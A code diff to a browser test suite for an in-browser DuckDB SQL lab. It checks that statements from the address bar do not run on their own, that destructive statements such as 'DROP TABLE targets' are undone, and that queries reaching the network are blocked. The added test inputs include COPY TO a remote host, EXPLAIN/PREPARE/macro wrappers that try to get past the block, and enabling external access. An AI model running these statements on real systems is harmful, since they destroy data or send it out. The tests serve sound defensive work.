@@ -71,8 +71,8 @@ describe.each(["/lab", "/en/lab"])("%s", (path) => {
 
 describe("a statement in the address", () => {
   it("is shown and not run before Run is pressed; then it stays in the address", async () => {
-    const {page, requests, close} = await openLab("DROP VIEW targets; SELECT 7 AS seven");
-    expect(await page.textContent(".cm-content")).toContain("DROP VIEW targets");
+    const {page, requests, close} = await openLab("DROP TABLE targets; SELECT 7 AS seven");
+    expect(await page.textContent(".cm-content")).toContain("DROP TABLE targets");
     await page.waitForTimeout(500);
     expect(requests.filter((url) => /duckdb/.test(url))).toEqual([]);
     await run(page);
@@ -82,7 +82,9 @@ describe("a statement in the address", () => {
   });
 
   it("that destroys harms nothing: the tables are restored, and by a reload too", async () => {
-    const {page, faults, close} = await openLab("DROP VIEW targets; CREATE TABLE mine AS SELECT 1");
+    const {page, faults, close} = await openLab(
+      "DROP TABLE targets; CREATE TABLE mine AS SELECT 1"
+    );
     await run(page);
     await write(page, "SELECT count(*)::INTEGER AS n FROM targets");
     await run(page);
@@ -174,6 +176,10 @@ describe("nothing leaves the machine", () => {
       `SELECT * FROM '${host}/x.parquet'`,
       `SELECT * FROM read_csv_auto('${site.url}/secret.csv')`,
       `COPY (SELECT 1) TO '${host}/x.csv'`,
+      `EXPLAIN ANALYZE COPY (SELECT 1) TO '${host}/x.csv'`,
+      `PREPARE p AS COPY (SELECT 1) TO '${host}/x.csv'; EXECUTE p`,
+      `CREATE MACRO m() AS TABLE SELECT * FROM read_csv_auto('${host}/x.csv'); FROM m()`,
+      "SET enable_external_access = true",
       `ATTACH '${host}/x.db' AS x`,
       "INSTALL httpfs",
       "LOAD httpfs",
